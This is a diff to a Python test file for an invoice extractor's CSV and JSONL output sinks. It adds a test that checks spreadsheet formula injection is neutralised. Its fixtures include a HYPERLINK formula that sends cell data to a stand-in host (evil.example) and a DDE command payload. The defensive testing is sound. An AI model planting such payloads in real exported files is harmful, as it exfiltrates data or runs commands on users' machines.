@@ -1,7 +1,10 @@
 """Sinks: atomic JSON files without stem collisions, JSONL, CSV."""
 
 import csv
+import dataclasses
 import json
+
+import pytest
 
 from extractor.jobs.sinks import CsvSink, JsonDirSink, JsonlSink, write_atomic
 from extractor.record import Record, Usage
@@ -46,3 +49,39 @@ def test_jsonl_and_csv(tmp_path):
         {"source": "a.pdf", "status": "ok", "invoice_number": "1", "total": "9.5", "errors": ""},
         {"source": "b.pdf", "status": "error", "invoice_number": "", "total": "", "errors": ""},
     ]
+
+
+@pytest.mark.parametrize(
+    "value, cell",
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("ACME = 3", "ACME = 3"),  # only the first character matters
+        (-12.5, "-12.5"),  # a JSON number of the record stays a number
+        (7, "7"),
+        (None, ""),
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(tmp_path, value, cell):
+    path = tmp_path / "r.csv"
+    sink = CsvSink(path, columns=["supplier"])
+    sink.write(rec(value if isinstance(value, str) else "a.pdf", data={"supplier": value}))
+    sink.close()
+    (row,) = csv.DictReader(path.open(newline=""))
+    expected_source = cell if isinstance(value, str) else "a.pdf"
+    assert row == {"source": expected_source, "status": "ok", "supplier": cell, "errors": ""}
+
+
+def test_the_batch_jsonl_is_emptied_at_the_start_and_keeps_two_lines_of_one_content(tmp_path):
+    path = tmp_path / "r.jsonl"
+    path.write_text("old\n")
+    sink = JsonlSink(path)
+    one = Record(source="a.pdf", status="ok", sha256="x" * 64)
+    sink.write(one)
+    sink.write(dataclasses.replace(one, source="copy-of-a.pdf"))  # same content, another input: its own line
+    sink.close()
+    assert [json.loads(line)["source"] for line in path.read_text().splitlines()] == ["a.pdf", "copy-of-a.pdf"]
